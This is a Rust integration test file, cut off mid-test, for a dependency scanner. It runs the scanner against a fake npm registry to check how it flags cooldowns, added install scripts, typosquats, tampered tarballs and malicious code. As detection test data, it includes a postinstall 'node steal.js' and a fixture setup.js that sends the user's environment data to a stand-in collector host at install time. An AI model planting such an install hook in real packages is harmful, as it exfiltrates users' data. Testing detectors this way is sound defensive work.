//! `customs scan` with registry checks, end to end, against a fake npm registry on loopback:
//! the evidence becomes findings, a fix of a known vulnerability is exempt from the cooldown,
//! a second, offline run gives the same findings from the cache, and a typosquat published by
//! the imitated package's own maintainers is not flagged.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "tests: a panic is the failure report"
)]

mod common;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use common::{customs_in, json, stderr, write};
use serde_json::{Value, json};

/// Serves `documents` by path (`/name`) over HTTP/1.1, one connection at a time, until the test
/// ends; anything else is a 404. Counts the requests.
fn fake_registry(documents: Vec<(String, Value)>) -> (String, Arc<AtomicUsize>) {
    fake_server(
        documents
            .into_iter()
            .map(|(path, document)| (path, document.to_string().into_bytes()))
            .collect(),
    )
}

/// Serves each body by path (JSON, or the bytes of an artifact), as [`fake_registry`]. In a
/// JSON body, `https://registry.npmjs.org/` becomes the server's own address, as a registry
/// names its own tarballs.
fn fake_server(bodies: Vec<(String, Vec<u8>)>) -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let own = format!("http://{address}/");
    let bodies: Vec<(String, Vec<u8>)> = bodies
        .into_iter()
        .map(|(path, body)| match String::from_utf8(body) {
            Ok(text) if text.starts_with('{') => (
                path,
                text.replace("https://registry.npmjs.org/", &own)
                    .into_bytes(),
            ),
            Ok(text) => (path, text.into_bytes()),
            Err(error) => (path, error.into_bytes()),
        })
        .collect();
    let requests = Arc::new(AtomicUsize::new(0));
    let counter = requests.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request_line = String::new();
            if reader.read_line(&mut request_line).is_err() {
                continue;
            }
            loop {
                let mut header = String::new();
                if reader.read_line(&mut header).unwrap_or(0) == 0 || header == "\r\n" {
                    break;
                }
            }
            counter.fetch_add(1, Ordering::SeqCst);
            // A proxy is asked for the absolute URL (`GET http://host/name`): match its path.
            let target = request_line.split_whitespace().nth(1).unwrap_or("/");
            let path = match target.split_once("://") {
                Some((_, rest)) => rest.find('/').map_or("/", |at| &rest[at..]).to_owned(),
                None => target.to_owned(),
            };
            let found = bodies.iter().find(|(p, _)| *p == path);
            let (status, body) = match found {
                Some((_, body)) => ("200 OK", body.clone()),
                None => ("404 Not Found", br#"{"error":"Not found"}"#.to_vec()),
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(&body);
        }
    });
    (format!("http://{address}/"), requests)
}

fn version(name: &str, version: &str, scripts: Value, publisher: &str) -> Value {
    json!({
        "name": name,
        "version": version,
        "scripts": scripts,
        "_npmUser": {"name": publisher},
        "license": "MIT",
        "dist": {"tarball": format!("https://registry.npmjs.org/{name}/-/{name}-{version}.tgz")}
    })
}

/// A packument of `(version, published, scripts, publisher)`.
fn packument(name: &str, versions: &[(&str, &str, Value, &str)]) -> (String, Value) {
    let mut all = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    for (v, published, scripts, publisher) in versions {
        all.insert(
            (*v).to_owned(),
            version(name, v, scripts.clone(), publisher),
        );
        time.insert((*v).to_owned(), Value::String((*published).to_owned()));
    }
    let latest = versions.last().map(|v| v.0).unwrap_or("0.0.0");
    (
        format!("/{name}"),
        json!({"name": name, "dist-tags": {"latest": latest}, "versions": all, "time": time}),
    )
}

fn ago(hours: i64) -> String {
    (jiff::Timestamp::now() - jiff::SignedDuration::from_hours(hours)).to_string()
}

#[test]
fn registry_evidence_becomes_findings_and_the_cache_answers_offline() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let project = dir.path().join("project");
    let digest = format!("sha512-{}", "A".repeat(86) + "==");
    let entry = |name: &str, version: &str| {
        format!(
            r#""node_modules/{name}": {{"version": "{version}", "resolved": "https://registry.npmjs.org/{name}/-/{name}-{version}.tgz", "integrity": "{digest}"}}"#
        )
    };
    write(
        &project,
        "package-lock.json",
        &format!(
            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{
  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"fresh": "*", "worm": "*", "qs": "*", "gone": "*", "steady": "*"}}}},
  {}, {}, {}, {}, {}
}}}}"#,
            entry("fresh", "2.0.0"),
            entry("worm", "1.0.1"),
            entry("qs", "6.7.3"),
            entry("gone", "1.0.0"),
            entry("steady", "1.0.0"),
        ),
    );
    let old = "2020-01-01T00:00:00Z";
    let none = json!({});
    let postinstall = json!({"postinstall": "node steal.js"});
    let (registry, requests) = fake_registry(vec![
        packument(
            "fresh",
            &[
                ("1.0.0", old, none.clone(), "alice"),
                ("2.0.0", &ago(5), none.clone(), "alice"),
            ],
        ),
        packument(
            "worm",
            &[
                ("1.0.0", old, none.clone(), "alice"),
                ("1.0.1", "2021-01-01T00:00:00Z", postinstall, "mallory"),
            ],
        ),
        // 6.7.3 fixes GHSA-hrpp-h998-j3pp (6.7.0 to 6.7.2): fresh, yet exempt from the cooldown.
        packument(
            "qs",
            &[
                ("6.7.2", old, none.clone(), "ljharb"),
                ("6.7.3", &ago(5), none.clone(), "ljharb"),
            ],
        ),
        packument("steady", &[("1.0.0", old, none, "alice")]),
    ]);
    let cache = dir.path().join("registry.sqlite");
    let cache = cache.to_str().unwrap();
    let scan = |extra: &[&str]| {
        let mut args = vec![
            "scan",
            "project",
            "--db",
            db.as_str(),
            "--registry-cache",
            cache,
            "--format",
            "json",
        ];
        args.extend_from_slice(extra);
        customs_in(
            &args,
            dir.path(),
            &registry_env(registry.as_str(), dir.path()),
        )
    };
    let summarize = |output: &std::process::Output| -> Vec<String> {
        let mut lines: Vec<String> = json(output)["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                format!(
                    "{} {} {}",
                    f["level"].as_str().unwrap(),
                    f["code"].as_str().unwrap(),
                    f["package"]["name"].as_str().unwrap_or("-")
                )
            })
            .collect();
        lines.sort();
        lines
    };
    let online = scan(&[]);
    assert_eq!(online.status.code(), Some(1), "{}", stderr(&online));
    let expected = [
        "deny install-script-added worm",
        "deny removed-from-registry gone",
        "warn cooldown fresh",
        "warn install-script worm",
        "warn publisher-changed worm",
    ];
    assert_eq!(summarize(&online), expected);
    let asked = requests.load(Ordering::SeqCst);
    assert_eq!(asked, 5, "one request per package name");

    let offline = scan(&["--offline"]);
    assert_eq!(summarize(&offline), expected, "{}", stderr(&offline));
    assert_eq!(requests.load(Ordering::SeqCst), asked, "offline never asks");

    let skipped = scan(&["--offline", "--no-registry"]);
    assert_eq!(skipped.status.code(), Some(0), "{}", stderr(&skipped));
    assert!(summarize(&skipped).is_empty());

    // Offline without a cache: the checks that could not be made are reported, not passed.
    let empty = dir.path().join("empty.sqlite");
    let cold = customs_in(
        &[
            "scan",
            "project",
            "--db",
            db.as_str(),
            "--registry-cache",
            empty.to_str().unwrap(),
            "--offline",
            "--format",
            "json",
        ],
        dir.path(),
        &[
            ("npm_config_registry", registry.as_str()),
            ("NO_PROXY", "127.0.0.1"),
            ("no_proxy", "127.0.0.1"),
        ],
    );
    let findings = json(&cold)["findings"].clone();
    let unchecked: Vec<&Value> = findings
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "registry-unchecked")
        .collect();
    assert_eq!(unchecked.len(), 1, "{findings}");
    assert!(
        unchecked[0]["message"]
            .as_str()
            .unwrap()
            .starts_with("registry checks could not be made for 5 packages: offline"),
        "{}",
        unchecked[0]["message"]
    );
}

#[test]
fn registry_requests_go_through_the_configured_proxy() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let project = dir.path().join("project");
    write(
        &project,
        "package-lock.json",
        r#"{"name": "app", "lockfileVersion": 3, "packages": {
  "": {"name": "app", "version": "1.0.0", "dependencies": {"steady": "*"}},
  "node_modules/steady": {"version": "1.0.0", "resolved": "http://registry.invalid/steady/-/steady-1.0.0.tgz", "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="}
}}"#,
    );
    // The registry's host does not resolve: only the proxy can answer for it.
    let (proxy, requests) = fake_registry(vec![packument(
        "steady",
        &[(
            "1.0.0",
            "2020-01-01T00:00:00Z",
            json!({"install": "node-gyp rebuild"}),
            "alice",
        )],
    )]);
    let output = customs_in(
        &["scan", "project", "--db", db.as_str(), "--format", "json"],
        dir.path(),
        &[
            ("npm_config_registry", "http://registry.invalid/"),
            ("HTTP_PROXY", proxy.as_str()),
            ("http_proxy", proxy.as_str()),
            ("NO_PROXY", ""),
            ("no_proxy", ""),
            ("HOME", dir.path().to_str().unwrap()),
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        requests.load(Ordering::SeqCst),
        1,
        "one request, through the proxy"
    );
    let codes: Vec<String> = json(&output)["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {}",
                f["code"].as_str().unwrap(),
                f["message"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        codes,
        ["install-script steady@1.0.0 runs code at install time (install)"]
    );
}

#[test]
fn diff_asks_the_registries_only_about_what_the_change_brings_in() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let repo = dir.path().join("repo");
    let digest = format!("sha512-{}", "A".repeat(86) + "==");
    let lock = |names: &[(&str, &str)]| {
        let entries: Vec<String> = names
            .iter()
            .map(|(name, version)| {
                format!(
                    r#""node_modules/{name}": {{"version": "{version}", "resolved": "https://registry.npmjs.org/{name}/-/{name}-{version}.tgz", "integrity": "{digest}"}}"#
                )
            })
            .collect();
        let direct: Vec<String> = names
            .iter()
            .map(|(n, _)| format!(r#""{n}": "*""#))
            .collect();
        format!(
            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{"": {{"name": "app", "version": "1.0.0", "dependencies": {{{}}}}}, {}}}}}"#,
            direct.join(", "),
            entries.join(", ")
        )
    };
    write(&repo, "package-lock.json", &lock(&[("steady", "1.0.0")]));
    common::git(&repo, &["init", "-q"]);
    common::git(&repo, &["add", "."]);
    common::git(&repo, &["commit", "-q", "-m", "base"]);
    write(
        &repo,
        "package-lock.json",
        &lock(&[("steady", "1.0.0"), ("fresh", "2.0.0")]),
    );
    let none = json!({});
    let (registry, requests) = fake_registry(vec![
        packument(
            "steady",
            &[("1.0.0", "2020-01-01T00:00:00Z", none.clone(), "alice")],
        ),
        packument(
            "fresh",
            &[
                ("1.0.0", "2020-01-01T00:00:00Z", none.clone(), "alice"),
                ("2.0.0", &ago(2), none, "alice"),
            ],
        ),
    ]);
    let cache = dir.path().join("registry.sqlite");
    let output = customs_in(
        &[
            "diff",
            "--base",
            "HEAD",
            ".",
            "--db",
            db.as_str(),
            "--registry-cache",
            cache.to_str().unwrap(),
            "--format",
            "json",
        ],
        &repo,
        &registry_env(registry.as_str(), dir.path()),
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        requests.load(Ordering::SeqCst),
        1,
        "only the added package is asked about"
    );
    let codes: Vec<String> = json(&output)["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {}",
                f["code"].as_str().unwrap(),
                f["package"]["name"].as_str().unwrap_or("-")
            )
        })
        .collect();
    assert_eq!(codes, ["cooldown fresh"]);
}

#[test]
fn the_registry_settles_borderline_typosquats() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let project = dir.path().join("project");
    let digest = format!("sha512-{}", "A".repeat(86) + "==");
    let entry = |name: &str, version: &str| {
        format!(
            r#""node_modules/{name}": {{"version": "{version}", "resolved": "https://registry.npmjs.org/{name}/-/{name}-{version}.tgz", "integrity": "{digest}"}}"#
        )
    };
    write(
        &project,
        "package-lock.json",
        &format!(
            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{
  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"loadsh": "*", "expres": "*"}}}},
  {}, {}
}}}}"#,
            entry("loadsh", "1.0.0"),
            entry("expres", "0.30.0"),
        ),
    );
    let none = json!({});
    // `loadsh`: one version, two days old. `expres`: thirty versions over ten years.
    let expres: Vec<(String, String)> = (0..30)
        .map(|minor| {
            (
                format!("0.{minor}.0"),
                format!("{}-01-01T00:00:00Z", 2014 + minor / 3),
            )
        })
        .collect();
    let expres: Vec<(&str, &str, Value, &str)> = expres
        .iter()
        .map(|(v, t)| (v.as_str(), t.as_str(), none.clone(), "carol"))
        .collect();
    let (registry, _) = fake_registry(vec![
        packument("loadsh", &[("1.0.0", &ago(48), none.clone(), "mallory")]),
        packument("expres", &expres),
    ]);
    let scan = |extra: &[&str]| {
        let mut args = vec!["scan", "project", "--db", db.as_str(), "--format", "json"];
        args.extend_from_slice(extra);
        let output = customs_in(
            &args,
            dir.path(),
            &registry_env(registry.as_str(), dir.path()),
        );
        let mut scores: Vec<(String, f64)> = json(&output)["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["code"] == "typosquat")
            .map(|f| {
                (
                    f["package"]["name"].as_str().unwrap().to_owned(),
                    f["typosquat"]["score"].as_f64().unwrap(),
                )
            })
            .collect();
        scores.sort_by(|a, b| a.0.cmp(&b.0));
        scores
    };
    let by_name = scan(&["--no-registry"]);
    let names: Vec<&str> = by_name.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["expres", "loadsh"], "by their names alone, both");
    let with_registry = scan(&[]);
    let names: Vec<&str> = with_registry.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        ["loadsh"],
        "a ten-year-old package with thirty releases is no squat"
    );
    assert!(
        with_registry[0].1 > by_name[1].1,
        "a two-day-old package with one release is more suspicious: {with_registry:?} {by_name:?}"
    );
}

/// `packument` with the registry's `maintainers` (the accounts that may publish the package).
fn maintained(packument: (String, Value), maintainers: &[&str]) -> (String, Value) {
    let (path, mut document) = packument;
    document["maintainers"] = maintainers
        .iter()
        .map(|name| json!({"name": name, "email": format!("{name}@example.com")}))
        .collect();
    (path, document)
}

#[test]
fn a_shared_maintainer_settles_a_typosquat_and_offline_the_name_decides() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let digest = format!("sha512-{}", "A".repeat(86) + "==");
    let lockfile = |registry: &str| {
        format!(
            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{
  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"loadsh": "*"}}}},
  "node_modules/loadsh": {{"version": "1.4.0", "resolved": "{registry}loadsh/-/loadsh-1.4.0.tgz", "integrity": "{digest}"}}
}}}}"#
        )
    };
    write(
        &dir.path().join("project"),
        "package-lock.json",
        &lockfile("https://registry.npmjs.org/"),
    );
    let lodash = lodash_by_its_maintainers();
    // Scans `project` against `registry` with the registry cache `cache`.
    let scan = |project: &str, registry: &str, cache: &str, extra: &[&str]| {
        let mut args = vec![
            "scan",
            project,
            "--db",
            db.as_str(),
            "--registry-cache",
            cache,
            "--format",
            "json",
        ];
        args.extend_from_slice(extra);
        let output = customs_in(&args, dir.path(), &registry_env(registry, dir.path()));
        json(&output)["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["code"] == "typosquat")
            .map(|f| {
                (
                    f["typosquat"]["score"].as_f64().unwrap(),
                    f["message"].as_str().unwrap().to_owned(),
                )
            })
            .collect::<Vec<(f64, String)>>()
    };
    let cache = |name: &str| {
        dir.path()
            .join(format!("{name}.sqlite"))
            .to_string_lossy()
            .into_owned()
    };
    let (unused, _) = fake_registry(Vec::new());
    let by_name = scan("project", &unused, &cache("unused"), &["--no-registry"]);
    let [(name_score, name_message)] = by_name.as_slice() else {
        panic!("by its name alone, `loadsh` is flagged: {by_name:?}");
    };

    // Published by other accounts than lodash's: flagged, and the message says they share none.
    let (strangers, strangers_asked) = fake_registry(vec![
        maintained(half_year_packument("loadsh"), &["mallory"]),
        lodash.clone(),
    ]);
    let flagged = scan("project", &strangers, &cache("strangers"), &[]);
    let [(score, message)] = flagged.as_slice() else {
        panic!("a squat by strangers is flagged: {flagged:?}");
    };
    assert_eq!(score, name_score, "sharing no maintainer changes no score");
    assert!(
        message.ends_with(", and it shares no maintainer with `lodash` on the registry"),
        "{message}"
    );
    assert_eq!(
        strangers_asked.load(Ordering::SeqCst),
        2,
        "the locked package, then the imitated one"
    );

    // Published by one of lodash's own maintainers: a companion package, not flagged.
    let (companions, _) = fake_registry(vec![
        maintained(half_year_packument("loadsh"), &["JDalton", "someone"]),
        lodash,
    ]);
    let companion = scan("project", &companions, &cache("companions"), &[]);
    assert_eq!(
        companion,
        [],
        "a shared maintainer lowers the score below the threshold"
    );

    // The same package locked from a registry the lockfile names (a private one): its accounts
    // are not the public registry's, so they are not compared.
    write(
        &dir.path().join("private"),
        "package-lock.json",
        &lockfile(&companions),
    );
    let private = scan("private", &companions, &cache("private"), &[]);
    assert_eq!(private, [(*name_score, name_message.clone())]);

    // Offline with an empty registry cache nothing is known: the name alone decides, and the
    // registry is never asked.
    let offline = scan("project", &strangers, &cache("empty"), &["--offline"]);
    assert_eq!(offline, [(*name_score, name_message.clone())]);
    assert_eq!(strangers_asked.load(Ordering::SeqCst), 2);
}

#[test]
fn check_weighs_names_with_what_the_registry_says() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let lodash = lodash_by_its_maintainers();
    let two_days_ago = ago(48);
    let young = [("1.0.0", two_days_ago.as_str(), json!({}), "mallory")];
    // Checks `names` against `registry` with the registry cache `cache`: (exit status, each
    // name's verdict, each typosquat reason).
    let check = |names: &[&str], registry: &str, cache: &str, extra: &[&str]| {
        let mut args = vec!["check"];
        args.extend_from_slice(names);
        args.extend_from_slice(&[
            "--ecosystem",
            "npm",
            "--db",
            db.as_str(),
            "--registry-cache",
            cache,
            "--format",
            "json",
        ]);
        args.extend_from_slice(extra);
        let output = customs_in(&args, dir.path(), &registry_env(registry, dir.path()));
        let document = json(&output);
        let names = document["names"].as_array().unwrap();
        (
            output.status.code(),
            names
                .iter()
                .map(|name| name["verdict"].as_str().unwrap().to_owned())
                .collect::<Vec<_>>(),
            names
                .iter()
                .map(|name| {
                    name["typosquat"]["reason"]
                        .as_str()
                        .unwrap_or("")
                        .to_owned()
                })
                .collect::<Vec<_>>(),
        )
    };
    let cache = |name: &str| {
        dir.path()
            .join(format!("{name}.sqlite"))
            .to_string_lossy()
            .into_owned()
    };
    let names = ["loadsh", "lodash-utils"];

    // By their names alone: `loadsh` is a slip of `lodash`; `lodash-utils` adds a word that
    // companion packages use too, too weak alone.
    let (unused, unused_asked) = fake_registry(Vec::new());
    let (status, verdicts, _) = check(&names, &unused, &cache("unused"), &["--no-registry"]);
    assert_eq!(status, Some(1));
    assert_eq!(verdicts, ["typosquat", "ok"]);
    assert_eq!(
        unused_asked.load(Ordering::SeqCst),
        0,
        "--no-registry asks nothing"
    );

    // Strangers' packages, one published two days ago: both flagged, and the reasons say the
    // maintainers are not lodash's.
    let (strangers, strangers_asked) = fake_registry(vec![
        maintained(half_year_packument("loadsh"), &["mallory"]),
        maintained(packument("lodash-utils", &young), &["mallory"]),
        lodash.clone(),
    ]);
    let (status, verdicts, reasons) = check(&names, &strangers, &cache("strangers"), &[]);
    assert_eq!(status, Some(1));
    assert_eq!(verdicts, ["typosquat", "typosquat"], "{reasons:?}");
    assert!(
        reasons
            .iter()
            .all(|reason| reason.ends_with("shares no maintainer with `lodash` on the registry")),
        "{reasons:?}"
    );
    assert_eq!(
        strangers_asked.load(Ordering::SeqCst),
        3,
        "each name and lodash, once"
    );

    // Published by one of lodash's own maintainers: companions, not flagged.
    let (companions, _) = fake_registry(vec![
        maintained(half_year_packument("loadsh"), &["JDalton"]),
        maintained(packument("lodash-utils", &young), &["jdalton"]),
        lodash,
    ]);
    let (status, verdicts, _) = check(&names, &companions, &cache("companions"), &[]);
    assert_eq!(status, Some(0));
    assert_eq!(verdicts, ["ok", "ok"]);

    // Offline, the cache answers without a request; with an empty cache the names alone decide.
    let (status, verdicts, _) = check(&names, &strangers, &cache("strangers"), &["--offline"]);
    assert_eq!(verdicts, ["typosquat", "typosquat"]);
    assert_eq!(status, Some(1));
    let (_, verdicts, _) = check(&names, &strangers, &cache("empty"), &["--offline"]);
    assert_eq!(verdicts, ["typosquat", "ok"]);
    assert_eq!(strangers_asked.load(Ordering::SeqCst), 3);
}

/// lodash's packument, maintained by its real accounts.
fn lodash_by_its_maintainers() -> (String, Value) {
    maintained(
        packument(
            "lodash",
            &[("4.17.21", "2021-02-20T00:00:00Z", json!({}), "bnjmnt4n")],
        ),
        &["jdalton", "bnjmnt4n"],
    )
}

/// `name`'s packument with five releases over the last half year: neither young nor
/// long-lived, so that the maintainers alone move a typosquat's score.
fn half_year_packument(name: &str) -> (String, Value) {
    let times: Vec<(String, String)> = (0..5)
        .map(|minor| (format!("1.{minor}.0"), ago(24 * (180 - 30 * minor))))
        .collect();
    let releases: Vec<(&str, &str, Value, &str)> = times
        .iter()
        .map(|(version, time)| (version.as_str(), time.as_str(), json!({}), "someone"))
        .collect();
    packument(name, &releases)
}

/// An npm tarball of the files of a directory of customs-inspect's fixtures, under `package/`.
fn tarball_of(fixture: &str) -> Vec<u8> {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../customs-inspect/tests/fixtures")
        .join(fixture);
    let mut files = Vec::new();
    let mut pending = vec![root.clone()];
    while let Some(directory) = pending.pop() {
        for entry in std::fs::read_dir(&directory).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                pending.push(path);
            } else {
                files.push(path);
            }
        }
    }
    files.sort();
    let files: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|path| {
            (
                path.strip_prefix(&root).unwrap().display().to_string(),
                std::fs::read(path).unwrap(),
            )
        })
        .collect();
    tarball(&files)
}

/// An npm tarball of `files` (paths relative to the package root).
fn tarball(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gzip);
    for (path, data) in files {
        let name = format!("package/{path}");
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
        tar.append_data(&mut header, name, data.as_slice()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// `customs scan project --deep --format json` (and `extra`) in `dir`, against the fake npm
/// registry at `registry`.
fn deep_scan(
    dir: &std::path::Path,
    db: &str,
    registry: &str,
    extra: &[&str],
) -> std::process::Output {
    let mut args = vec!["scan", "project", "--db", db, "--deep", "--format", "json"];
    args.extend_from_slice(extra);
    customs_in(&args, dir, &registry_env(registry, dir))
}

/// The environment that points customs at the fake registry `registry`, with `home` as its
/// home (no user configuration) and no proxy for loopback.
fn registry_env<'a>(registry: &'a str, home: &'a std::path::Path) -> [(&'static str, &'a str); 4] {
    [
        ("npm_config_registry", registry),
        ("NO_PROXY", "127.0.0.1"),
        ("no_proxy", "127.0.0.1"),
        ("HOME", home.to_str().unwrap()),
    ]
}

fn sri(bytes: &[u8]) -> String {
    use base64::Engine as _;
    use sha2::Digest as _;
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(bytes))
    )
}

#[test]
fn deep_scans_open_the_locked_artifacts() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let evil = tarball_of("ua-parser-js");
    let fine = tarball_of("benign-npm-cli-spawn");
    let tampered = tarball_of("benign-npm-node-gyp");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    drop(listener);
    let old = "2020-01-01T00:00:00Z";
    let none = json!({});
    // The packuments first, to know the server's address for the tarball URLs.
    let mut bodies: Vec<(String, Vec<u8>)> = Vec::new();
    for (name, bytes) in [("evil", &evil), ("fine", &fine), ("tampered", &tampered)] {
        let (path, document) = packument(name, &[("1.0.0", old, none.clone(), "alice")]);
        bodies.push((path, document.to_string().into_bytes()));
        bodies.push((format!("/{name}/-/{name}-1.0.0.tgz"), bytes.clone()));
    }
    let (registry, requests) = fake_server(bodies);
    let entry = |name: &str, integrity: &str| {
        format!(
            r#""node_modules/{name}": {{"version": "1.0.0", "resolved": "{registry}{name}/-/{name}-1.0.0.tgz", "integrity": "{integrity}"}}"#
        )
    };
    let project = dir.path().join("project");
    write(
        &project,
        "package-lock.json",
        &format!(
            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{
  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"evil": "*", "fine": "*", "tampered": "*"}}}},
  {}, {}, {}
}}}}"#,
            entry("evil", &sri(&evil)),
            entry("fine", &sri(&fine)),
            // Locked with the digest of other bytes: those served are not those locked. (Not the
            // digest of another locked artifact: the content-addressed cache would answer it.)
            entry("tampered", &sri(b"the bytes that were locked")),
        ),
    );
    let scan = |extra: &[&str]| deep_scan(dir.path(), &db, &registry, extra);
    let codes = |output: &std::process::Output| -> Vec<String> {
        let mut lines: Vec<String> = json(output)["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| {
                [
                    "malicious-code",
                    "suspicious-code",
                    "integrity-mismatch",
                    "inspect-unchecked",
                ]
                .contains(&f["code"].as_str().unwrap())
            })
            .map(|f| {
                format!(
                    "{} {} {}",
                    f["level"].as_str().unwrap(),
                    f["code"].as_str().unwrap(),
                    f["package"]["name"].as_str().unwrap_or("-")
                )
            })
            .collect();
        lines.sort();
        lines
    };
    let online = scan(&[]);
    assert_eq!(online.status.code(), Some(1), "{}", stderr(&online));
    assert_eq!(
        codes(&online),
        [
            "deny integrity-mismatch tampered",
            "deny malicious-code evil"
        ],
        "{}",
        String::from_utf8_lossy(&online.stdout)
    );
    let document = json(&online);
    let malicious = document["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "malicious-code")
        .unwrap();
    assert_eq!(malicious["inspection"]["artifact"], "evil-1.0.0.tgz");
    assert_eq!(
        malicious["inspection"]["hits"][0]["reachable_from"],
        "install"
    );

    // The artifacts and verdicts are kept: offline, the same findings without a request.
    let asked = requests.load(Ordering::SeqCst);
    // The tampered artifact was refused, not kept: offline it is reported as not inspected.
    let offline = scan(&["--offline"]);
    assert_eq!(
        codes(&offline),
        ["deny malicious-code evil", "warn inspect-unchecked -"],
        "{}",
        stderr(&offline)
    );
    let unchecked = json(&offline)["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "inspect-unchecked")
        .unwrap()["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(unchecked.contains("tampered@1.0.0"), "{unchecked}");
    assert_eq!(requests.load(Ordering::SeqCst), asked);

    // Without the registry there is nothing to fetch artifacts from.
    let refused = scan(&["--no-registry"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        stderr(&refused).contains("--deep fetches"),
        "{}",
        stderr(&refused)
    );
}

#[test]
fn inspect_opens_directories_and_says_what_it_found() {
    let fixtures =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../customs-inspect/tests/fixtures");
    let output = customs_in(
        &[
            "inspect",
            fixtures.join("shai-hulud").to_str().unwrap(),
            fixtures.join("benign-npm-node-gyp").to_str().unwrap(),
            "--format",
            "json",
        ],
        &fixtures,
        &[],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let document = json(&output);
    assert_eq!(document["schema_version"], 1);
    let verdicts: Vec<(&str, &str)> = document["targets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["ecosystem"].as_str().unwrap(),
                t["artifacts"][0]["verdict"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(verdicts, [("npm", "malicious"), ("npm", "clean")]);

    let output = customs_in(&["inspect", "no/such/thing"], &fixtures, &[]);
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn deep_scans_compare_each_release_with_the_one_before() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::advisory_db(dir.path());
    let client = b"const https = require('https');\nmodule.exports = (path, done) => https.get('https://api.widget-service.net' + path, done);\n".to_vec();
    let manifest = |version: &str, extra: &str| {
        format!(r#"{{"name": "widget", "version": "{version}", "main": "index.js"{extra}}}"#)
            .into_bytes()
    };
    let before = tarball(&[
        ("package.json".to_owned(), manifest("1.4.2", "")),
        ("index.js".to_owned(), client.clone()),
    ]);
    // The hijacked patch release: a postinstall running a new file that posts to a new host.
    let after = tarball(&[
        (
            "package.json".to_owned(),
            manifest("1.4.3", r#", "scripts": {"postinstall": "node setup.js"}"#),
        ),
        ("index.js".to_owned(), client),
        (
            "setup.js".to_owned(),
            b"require('https').request('https://metrics.fixture-collector.net/v1', {method: 'POST'}).end(process.env.USER);\n".to_vec(),
        ),
    ]);
    let (path, mut document) = packument(
        "widget",
        &[
            ("1.4.2", "2020-01-01T00:00:00Z", json!({}), "alice"),
            (
                "1.4.3",
                "2020-02-01T00:00:00Z",
                json!({"postinstall": "node setup.js"}),
                "alice",
            ),
        ],
    );
    document["versions"]["1.4.2"]["dist"]["integrity"] = Value::String(sri(&before));
    let mut bodies = vec![(path, document.to_string().into_bytes())];
    bodies.push(("/widget/-/widget-1.4.2.tgz".to_owned(), before));
    bodies.push(("/widget/-/widget-1.4.3.tgz".to_owned(), after.clone()));
    let (registry, _) = fake_server(bodies);
    let project = dir.path().join("project");
    write(
        &project,
        "package-lock.json",
        &format!(
